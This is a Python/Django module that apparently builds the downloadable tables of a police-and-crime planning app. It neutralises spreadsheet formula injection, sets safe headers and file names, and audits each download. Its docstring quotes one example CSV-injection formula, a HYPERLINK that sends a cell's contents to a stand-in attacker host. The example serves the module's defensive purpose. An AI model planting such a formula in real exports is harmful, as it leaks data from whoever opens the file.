"""Every table and file crimeplan hands out, and the download response that carries it.

A spreadsheet reads a cell that begins with `=`, `+`, `-` or `@` as a formula (OWASP's "CSV
injection"), so a grant applicant's `=HYPERLINK("http://attacker.example/?"&A1,"x")` would
run in the commissioning officer's Excel. Every download and every table a command prints is
therefore written here, once:

- XLSX: every text is a string cell (xlsxwriter would otherwise turn "=..." into a formula,
  "http://..." into a link and "12" into a number); numbers are number cells.
- ODS: texts are string cells and numbers float cells; no cell carries a formula.
- CSV: a text that begins with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading
  apostrophe, unless it is only a number ("-12.3", "-0.25%", "+1,234"): a spreadsheet reads
  that as the number it is, and analysts' printed figures must stay exactly as printed.
- JSON and GeoJSON are data, not spreadsheets: written as they are.

A download the public can fetch is published data, and carries an `About` (who publishes
it, where the figures come from, as at when, and the Open Government Licence) inside the
file, so that it keeps its provenance when it is passed on: four final columns of a CSV, an
"About" sheet of a workbook, an "about" object around a JSON table, a line of a PDF.

`download_response` builds every download: a safe file name, `X-Content-Type-Options:
nosniff`, no caching of a signed-in person's download, and the audit event (who, what, the
filters, the number of rows; never the values). `download_view` marks a view as a download
and refuses formats it does not serve, so the tests can find every download in the URL conf.
"""

import csv
import datetime
import io
import json
import math
import re
import unicodedata
from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from decimal import Decimal
from functools import wraps
from typing import IO, Any

import xlsxwriter
from django.conf import settings
from django.core.exceptions import ImproperlyConfigured
from django.db.models import Model
from django.http import FileResponse, Http404, HttpRequest, HttpResponse, StreamingHttpResponse
from django.http.response import HttpResponseBase
from django.utils.cache import patch_cache_control
from django.utils.http import content_disposition_header
from django.utils.translation import pgettext_lazy
from odf import teletype
from odf.opendocument import OpenDocumentSpreadsheet
from odf.table import Table, TableCell, TableRow
from odf.text import P

CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "json": "application/json",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "ods": "application/vnd.oasis.opendocument.spreadsheet",
    "geojson": "application/geo+json",
    "pdf": "application/pdf",
    "html": "text/html; charset=utf-8",
    "toml": "application/toml; charset=utf-8",
}
# The formats `table_bytes` writes.
TABLE_FORMATS = ("csv", "json", "xlsx", "ods")
# The "format" of a download that hands back a file someone uploaded, as it was uploaded
# (its kind checked by content then): crimeplan did not write it, so cannot rewrite it.
UPLOADED_FILE = "file"

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
# Only digits, an optional sign, thousands commas, a decimal point and a percent sign: no
# function, reference or operator a spreadsheet could evaluate.
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d[\d,]*(?:\.\d*)?|\.\d+)%?")
NEUTRALISER = "'"

# Excel holds at most this many characters in a cell.
XLSX_MAX_TEXT = 32_767
XLSX_OPTIONS = {
    "in_memory": True,
    "strings_to_formulas": False,
    "strings_to_urls": False,
    "strings_to_numbers": False,
}
# Characters XML 1.0 cannot hold at all (ODS is XML; xlsxwriter escapes them itself).
XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff\ud800-\udfff]")
SHEET_TITLE_ILLEGAL = re.compile(r"[\[\]:*?/\\]")
MAX_FILENAME_STEM = 100


# The licence every publication of an OPCC's own figures is offered under (Crown copyright
# and public-sector information, The National Archives).
OGL = "Open Government Licence v3.0"
# Its name on its own, marked for translation (a Welsh PDF's "Trwydded: ..."), apart from the
# footer's, which a Welsh sentence mutates.
OGL_NAME = pgettext_lazy("licence name", "Open Government Licence v3.0")
OGL_URL = "https://www.nationalarchives.gov.uk/doc/open-government-licence/version/3/"
# The columns a public CSV ends with, whatever its table: named apart from any table's own
# columns (a table of recommendations has its own "source").
ABOUT_COLUMNS = ("about_publisher", "about_source", "about_as_at", "about_licence")


@dataclass(frozen=True)
class About:
    """What a published download says of itself: its publisher, where its figures come from,
    the date they stand at, and the licence it may be reused under."""

    source: str
    as_at: datetime.date
    publisher: str = ""
    licence: str = OGL
    licence_url: str = OGL_URL

    @property
    def publisher_name(self) -> str:
        return self.publisher or settings.CRIMEPLAN_OPCC_NAME

    @property
    def licence_text(self) -> str:
        return f"{self.licence} ({self.licence_url})"

    def as_dict(self) -> dict[str, str]:
        return {
            "publisher": self.publisher_name,
            "source": self.source,
            "as_at": self.as_at.isoformat(),
            "licence": self.licence,
            "licence_url": self.licence_url,
        }

    def column_values(self) -> tuple[str, str, str, str]:
        return (self.publisher_name, self.source, self.as_at.isoformat(), self.licence_text)

    def sheet(self) -> "Sheet":
        return Sheet("About", ["about", "value"], [[k, v] for k, v in self.as_dict().items()])

    def sentence(self) -> str:
        """The line a published PDF prints."""
        return (
            f"Published by {self.publisher_name}. Source: {self.source}. "
            f"As at {self.as_at.isoformat()}. Licence: {self.licence_text}."
        )


def with_about_columns(
    columns: Sequence[object], rows: Iterable[Sequence[object]], about: About
) -> tuple[list[object], list[list[object]]]:
    """A table with the `ABOUT_COLUMNS` added to its header and every row."""
    clash = set(map(str, columns)) & set(ABOUT_COLUMNS)
    if clash:
        raise ValueError(f"the table already has a column named {', '.join(sorted(clash))}")
    return [*columns, *ABOUT_COLUMNS], [[*row, *about.column_values()] for row in rows]


# -- cells ------------------------------------------------------------------------------------


def _is_number(value: object) -> bool:
    return isinstance(value, int | float | Decimal) and not isinstance(value, bool)


def csv_text(text: str) -> str:
    """The text as a CSV cell: a formula prefix neutralised by a leading apostrophe."""
    if text.startswith(FORMULA_PREFIXES) and not PLAIN_NUMBER.fullmatch(text):
        return NEUTRALISER + text
    return text


def csv_cell(value: object) -> str:
    if value is None:
        return ""
    if _is_number(value) or isinstance(value, bool):
        return str(value)
    return csv_text(str(value))


def _finite_number(value: object) -> bool:
    return _is_number(value) and math.isfinite(value)  # type: ignore[arg-type]


# -- CSV and JSON -----------------------------------------------------------------------------


class _Line:
    """A file-like object whose write returns the line, so csv.writer can stream."""

    def write(self, line: str) -> str:
        return line


def csv_lines(columns: Sequence[object], rows: Iterable[Sequence[object]]) -> Iterator[str]:
    """The header, then each row, as CSV lines; for streaming a long table."""
    writer = csv.writer(_Line(), lineterminator="\n")
    yield writer.writerow([csv_cell(c) for c in columns])
    for row in rows:
        yield writer.writerow([csv_cell(v) for v in row])


def csv_string(columns: Sequence[object], rows: Iterable[Sequence[object]]) -> str:
    return "".join(csv_lines(columns, rows))


def csv_bytes(columns: Sequence[object], rows: Iterable[Sequence[object]]) -> bytes:
    return csv_string(columns, rows).encode("utf-8")


def json_bytes(
    columns: Sequence[str], rows: Iterable[Mapping[str, Any]], about: About | None = None
) -> bytes:
    """A list of objects; a published table is `{"about": {...}, "rows": [...]}`."""
    table: object = [{c: r.get(c) for c in columns} for r in rows]
    if about is not None:
        table = {"about": about.as_dict(), "rows": table}
    return json.dumps(table, indent=1, default=str).encode("utf-8")


# -- spreadsheets -----------------------------------------------------------------------------


@dataclass(frozen=True)
class Sheet:
    """One table of a workbook: a header row (bold in XLSX), then the rows."""

    title: str
    columns: Sequence[object]
    rows: Sequence[Sequence[object]]


def _sheet_titles(sheets: Sequence[Sheet]) -> list[str]:
    """Titles both formats accept: no []:*?/\\, at most 31 characters, each different."""
    titles: list[str] = []
    for sheet in sheets:
        base = SHEET_TITLE_ILLEGAL.sub("-", XML_ILLEGAL.sub("", sheet.title)).strip("' ")[:31]
        title, n = base or "Sheet", 1
        while title.lower() in {t.lower() for t in titles}:
            n += 1
            title = f"{base[: 31 - len(str(n)) - 1]} {n}"
        titles.append(title)
    return titles


def _fits_xlsx(text: str) -> str:
    """Excel's cell limit; a longer text is cut with a note saying so, never silently."""
    if len(text) <= XLSX_MAX_TEXT:
        return text
    note = f" [cut: the text has {len(text):,} characters, a cell holds {XLSX_MAX_TEXT:,}]"
    return text[: XLSX_MAX_TEXT - len(note)] + note


def _xlsx_write(sheet: Any, row: int, column: int, value: object, style: Any = None) -> None:
    if value is None:
        return
    if isinstance(value, bool):
        sheet.write_boolean(row, column, value, style)
    elif _finite_number(value):
        sheet.write_number(row, column, value, style)
    else:
        sheet.write_string(row, column, _fits_xlsx(str(value)), style)


def xlsx_bytes(sheets: Sequence[Sheet]) -> bytes:
    output = io.BytesIO()
    workbook = xlsxwriter.Workbook(output, XLSX_OPTIONS)
    bold = workbook.add_format({"bold": True})
    for sheet, title in zip(sheets, _sheet_titles(sheets), strict=True):
        worksheet = workbook.add_worksheet(title)
        for c, name in enumerate(sheet.columns):
            _xlsx_write(worksheet, 0, c, name, bold)
        for r, values in enumerate(sheet.rows, start=1):
            for c, value in enumerate(values):
                _xlsx_write(worksheet, r, c, value)
    workbook.close()
    return output.getvalue()


def ods_text(text: str) -> str:
    """What an ODS text cell can hold: XML keeps no carriage return (a line break stands for
    it) and no other control character (U+FFFD stands for each)."""
    return XML_ILLEGAL.sub("\ufffd", text.replace("\r\n", "\n").replace("\r", "\n"))


def _ods_cell(value: object) -> TableCell:
    if value is None:
        return TableCell()
    if _finite_number(value):
        cell = TableCell(valuetype="float", value=str(value))
        cell.addElement(P(text=str(value)))
        return cell
    cell = TableCell(valuetype="string")
    paragraph = P()
    teletype.addTextToElement(paragraph, ods_text(str(value)))
    cell.addElement(paragraph)
    return cell


def ods_bytes(sheets: Sequence[Sheet]) -> bytes:
    document = OpenDocumentSpreadsheet()
    for sheet, title in zip(sheets, _sheet_titles(sheets), strict=True):
        table = Table(name=title)
        for values in [sheet.columns, *sheet.rows]:
            row = TableRow()
            for value in values:
                row.addElement(_ods_cell(value))
            table.addElement(row)
        document.spreadsheet.addElement(table)
    output = io.BytesIO()
    document.write(output)
    return output.getvalue()


def table_bytes(
    rows: Sequence[Mapping[str, Any]],
    columns: Sequence[str],
    file_format: str,
    *,
    title: str = "data",
    about: About | None = None,
) -> bytes:
    """Rows (dicts keyed by column) as one table in CSV, JSON, XLSX or ODS; with `about`,
    as a published table that carries its provenance (see the module's docstring)."""
    if file_format == "json":
        return json_bytes(columns, rows, about)
    values = [[r.get(c) for c in columns] for r in rows]
    if file_format == "csv":
        if about is not None:
            return csv_bytes(*with_about_columns(columns, values, about))
        return csv_bytes(columns, values)
    sheets = [Sheet(title, columns, values), *([about.sheet()] if about else [])]
    if file_format == "xlsx":
        return xlsx_bytes(sheets)
    if file_format == "ods":
        return ods_bytes(sheets)
    raise ValueError(f"format must be one of {', '.join(TABLE_FORMATS)}, not {file_format!r}")


# -- downloads --------------------------------------------------------------------------------


def download_filename(stem: str, file_format: str) -> str:
    """Plain ASCII letters, digits, dots, hyphens and underscores: no path, no quote, no
    control character, whatever the record's name holds."""
    ascii_stem = unicodedata.normalize("NFKD", stem).encode("ascii", "ignore").decode("ascii")
    cleaned = re.sub(r"[^A-Za-z0-9._-]+", "-", ascii_stem).strip(".-_")[:MAX_FILENAME_STEM]
    return f"{cleaned.strip('.-_') or 'download'}.{file_format}"


def _filters(request: HttpRequest, filters: Mapping[str, object]) -> str:
    """The filters the view vouches for (a year, an area, a breakdown: never a person), with
    their values; any other query parameter by its name only, since its value may be a name
    someone searched for."""
    chosen = [f"{k}={v}" for k, v in filters.items() if v not in (None, "", [], ())]
    chosen += [
        f"{k} (value not kept)"
        for k, v in request.GET.items()
        if v and k not in filters and k != "format"
    ]
    return f"; filters {', '.join(chosen)}" if chosen else ""


# Who writes the audit event for a download. core imports no app, so the audit app registers
# its recorder here when it starts (crimeplan.audit.apps); a download with none refuses.
_export_recorder: Callable[..., object] | None = None


def record_exports_with(recorder: Callable[..., object]) -> None:
    """Called once by the audit app: `recorder(actor=, instance=, object_type=, object_label=,
    organisation_id=, path=, summary=)` writes the download's audit event."""
    global _export_recorder
    _export_recorder = recorder


def _audit_download(
    *,
    request: HttpRequest,
    subject: str,
    file_format: str,
    rows: int | None,
    filters: Mapping[str, object],
    instance: Model | None,
    object_type: str,
    organisation_id: int | None,
) -> None:
    counted = "" if rows is None else f", {rows:,} row{'' if rows == 1 else 's'}"
    if _export_recorder is None:
        raise ImproperlyConfigured(
            "No audit recorder for downloads: crimeplan.audit must be installed (its AppConfig "
            "registers one), since every signed-in download is audited."
        )
    _export_recorder(
        actor=request.user,
        instance=instance,
        object_type=object_type,
        object_label=subject,
        organisation_id=organisation_id,
        path=request.get_full_path(),
        summary=(
            f"Downloaded {subject} as {file_format.upper()}{counted}{_filters(request, filters)}"
        ),
    )


def download_response(
    *,
    request: HttpRequest,
    content: bytes | str | Iterable[str] | IO[bytes],
    file_format: str,
    filename: str,
    subject: str,
    rows: int | None = None,
    filters: Mapping[str, object] | None = None,
    instance: Model | None = None,
    object_type: str = "",
    organisation_id: int | None = None,
    content_type: str = "",
    inline: bool = False,
) -> HttpResponseBase:
    """The response for one download, audited when someone signed in asked for it.

    `content` is the file (bytes or text), an iterator of text to stream, or an open binary
    file; `filename` is the name without its extension, made safe here; `subject` says what
    was downloaded, in words, for the audit trail (never the values), and `filters` the
    choices that narrowed it whose values may be kept (never one that can name a person).
    The public's downloads of published documents are not audited: there is nobody to name,
    and the append-only trail must not be something anyone can fill.
    """
    content_type = content_type or CONTENT_TYPES[file_format]
    response: HttpResponseBase
    if isinstance(content, bytes | str):
        response = HttpResponse(content, content_type=content_type)
    elif hasattr(content, "read"):
        response = FileResponse(content, content_type=content_type)
    else:
        response = StreamingHttpResponse(content, content_type=content_type)
    response["Content-Disposition"] = (
        content_disposition_header(not inline, download_filename(filename, file_format))
        or "attachment"
    )
    response["X-Content-Type-Options"] = "nosniff"
    if getattr(request.user, "is_authenticated", False):
        patch_cache_control(response, private=True, no_store=True)
        _audit_download(
            request=request,
            subject=subject,
            file_format=file_format,
            rows=rows,
            filters=filters or {},
            instance=instance,
            object_type=object_type,
            organisation_id=organisation_id,
        )
    return response


def table_response(
    *,
    request: HttpRequest,
    rows: Sequence[Mapping[str, Any]],
    columns: Sequence[str],
    file_format: str,
    filename: str,
    subject: str,
    title: str = "data",
    filters: Mapping[str, object] | None = None,
    instance: Model | None = None,
    object_type: str = "",
    organisation_id: int | None = None,
    about: About | None = None,
) -> HttpResponseBase:
    """A table download: `table_bytes` in the response `download_response` builds. A table
    the public may fetch passes its `about`."""
    return download_response(
        request=request,
        content=table_bytes(rows, columns, file_format, title=title, about=about),
        file_format=file_format,
        filename=filename,
        subject=subject,
        rows=len(rows),
        filters=filters,
        instance=instance,
        object_type=object_type,
        organisation_id=organisation_id,
    )


type View = Callable[..., HttpResponseBase]


def download_view(
    *formats: str, kwarg: str = "", query: str = "", default: str = ""
) -> Callable[[View], View]:
    """Marks a view as a download in `formats` and answers 404 for any other format.

    The format is the URL's `kwarg`, or the query parameter `query` (`default` when it is
    absent; with no default, a request without it is the view's page, not a download), or
    the only one of `formats`. The marks let the tests find every download in the URL conf.
    """

    def decorator(view: View) -> View:
        @wraps(view)
        def wrapped(request: HttpRequest, *args: Any, **kwargs: Any) -> HttpResponseBase:
            chosen: object
            if kwarg:
                chosen = kwargs.get(kwarg)
            elif query:
                chosen = request.GET.get(query) or default or None
            else:
                chosen = formats[0]
            if chosen is not None and chosen not in formats:
                raise Http404(f"No download as {str(chosen)[:20]!r}")
            return view(request, *args, **kwargs)

        wrapped.download_formats = formats  # type: ignore[attr-defined]
        wrapped.download_format_kwarg = kwarg  # type: ignore[attr-defined]
        wrapped.download_format_query = query  # type: ignore[attr-defined]
        return wrapped

    return decorator
